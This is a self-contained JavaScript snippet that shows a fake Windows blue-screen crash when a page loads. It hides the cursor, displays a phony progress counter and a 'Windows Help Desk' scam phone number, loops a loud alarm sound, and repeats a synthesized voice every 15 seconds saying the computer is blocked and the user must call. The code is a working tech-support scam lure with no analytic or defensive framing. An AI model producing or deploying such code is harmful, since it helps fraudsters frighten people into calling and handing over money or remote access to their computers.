// corpus note: renders a fake blue-screen (BSOD) with a scam number and plays a looping audio alarm plus speech synthesis
(function (doc, win) {
  var NUMBER = "(800) 555-0176";
  var AUDIO = "https://alerts.pc-health-center.test/sound/alarm_beep.mp3";

  var html = [
    '<div id="bsod" style="position:fixed;inset:0;background:#0078d7;color:#fff;font-family:Segoe UI Light,Arial;padding:7% 10%;z-index:999999;cursor:none">',
    '<div style="font-size:120px;line-height:1">:(</div>',
    '<p style="font-size:26px">Your PC ran into a problem and needs to restart. We\'re just collecting some error info, and then we\'ll restart for you.</p>',
    '<p style="font-size:22px"><span id="pct">0</span>% complete</p>',
    '<p style="font-size:15px">For more information about this issue and possible fixes, call Windows Help Desk: <b style="font-size:22px">' + NUMBER + '</b></p>',
    '<p style="font-size:13px">Stop code: CRITICAL_PROCESS_DIED &nbsp; What failed: ntoskrnl.exe</p>',
    "</div>"
  ].join("");

  function render() {
    doc.body.insertAdjacentHTML("afterbegin", html);
    var p = 0, el = doc.getElementById("pct");
    var t = setInterval(function () {
      p = Math.min(p + Math.ceil(Math.random() * 3), 99);
      el.textContent = p;
      if (p >= 99) clearInterval(t);
    }, 900);
  }

  function alarm() {
    var a = new Audio(AUDIO);
    a.loop = true;
    a.volume = 1.0;
    var pr = a.play();
    if (pr && pr.catch) pr.catch(function () {
      doc.addEventListener("click", function () { a.play(); }, { once: true });
    });
    if (win.speechSynthesis) {
      var u = new SpeechSynthesisUtterance(
        "Critical alert. Your computer has been blocked. Please call Windows support at " + NUMBER.replace(/\D/g, " ").trim() + " immediately.");
      u.rate = 0.9;
      setInterval(function () { win.speechSynthesis.speak(u); }, 15000);
      win.speechSynthesis.speak(u);
    }
  }

  doc.addEventListener("DOMContentLoaded", function () { render(); alarm(); });
})(document, window);
